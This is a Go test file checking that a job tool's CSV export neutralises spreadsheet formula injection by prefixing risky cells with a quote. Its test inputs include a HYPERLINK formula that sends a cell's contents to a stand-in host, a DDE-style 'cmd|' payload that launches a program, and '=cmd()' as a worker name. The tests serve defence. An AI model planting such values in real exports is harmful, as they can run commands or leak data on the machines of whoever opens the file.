package main

import (
	"encoding/csv"
	"strings"
	"testing"

	"jobd/journal"
)

// A spreadsheet runs what begins as a formula does; numbers stay what they are.
func TestCellsThatASpreadsheetWouldRun(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	j := openJournal(t, dir)
	outputs := map[string]string{ // what a job printed, and its cell
		`=HYPERLINK("http://x/?"&A1)`: `'=HYPERLINK("http://x/?"&A1)`,
		"+1+1":                        "'+1+1",
		"-2+3+cmd|' /C calc'!A0":      "'-2+3+cmd|' /C calc'!A0",
		"@SUM(1)":                     "'@SUM(1)",
		"\t=1":                        "'\t=1",
		"\r=1":                        "'\r=1",
		"\n=1":                        "'\n=1",
		"  =1":                        "'  =1",
		"\ufeff=1":                    "'\ufeff=1",
		"\uff1d1":                     "'\uff1d1",
		"\ttext":                      "'\ttext",
		"-5":                          "-5",
		"+5.25":                       "+5.25",
		"-1e6\n":                      "-1e6\n",
		"-1e6x":                       "'-1e6x",
		"-":                           "'-",
		"a=1":                         "a=1",
		"1=1":                         "1=1",
		"":                            "",
		"'=1":                         "'=1",
		"plain\n=1":                   "plain\n=1",
	}
	jobs := map[string]string{}
	number := int64(-5) // ids stay numbers, below 0 as well
	for text := range outputs {
		if number++; number == 0 {
			number++
		}
		appendAll(
			t, j,
			journal.Draft{Job: number, Payload: journal.Accepted{Target: "a", Token: "@tokenfive"}},
			journal.Draft{Job: number, Payload: journal.Running{Attempt: 1}},
			journal.Draft{Job: number, Payload: journal.Started{Pid: 100, StartTime: 1, BootID: "boot"}},
			journal.Draft{Job: number, Payload: journal.Done{Result: "ok", Stdout: journal.Output{Kept: []byte(text), Size: int64(len(text))}}},
		)
		jobs[textOf(number)] = text
	}
	if err := j.Close(); err != nil {
		t.Fatal(err)
	}
	got := jobctl{}.run(t, "journal", "export", "--format=csv", "--journal", dir)
	rows, err := csv.NewReader(strings.NewReader(strings.ReplaceAll(got.out, "\r", "\\r"))).ReadAll()
	if err != nil || got.code != 0 {
		t.Fatalf("%v, %+v", err, got)
	}
	seen := 0
	for _, row := range rows[1:] {
		if row[4] != "done" {
			continue
		}
		seen++
		text, known := jobs[row[3]]
		if want := strings.ReplaceAll(outputs[text], "\r", "\\r"); !known || row[6] != want {
			t.Errorf("job %s printed %q, its cell is %q, want %q", row[3], text, row[6], want)
		}
		for _, cell := range row {
			if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "@") {
				t.Errorf("cell %q", cell)
			}
		}
	}
	if seen != len(outputs) {
		t.Errorf("%d ends of %d", seen, len(outputs))
	}
}

// The column that names workers is theirs to fill.
func TestAWorkersNameInACell(t *testing.T) {
	t.Parallel()
	top := t.TempDir()
	journalOf(t, top+"/a", "=cmd()", 1)
	journalOf(t, top+"/b", "node", 1)
	got := jobctl{}.run(t, "journal", "export", "--format=csv", "--journal", top+"/a", "--journal", top+"/b")
	if got.code != 0 || !strings.Contains(got.out, "\n'=cmd(),1,") {
		t.Errorf("%+v", got)
	}
}
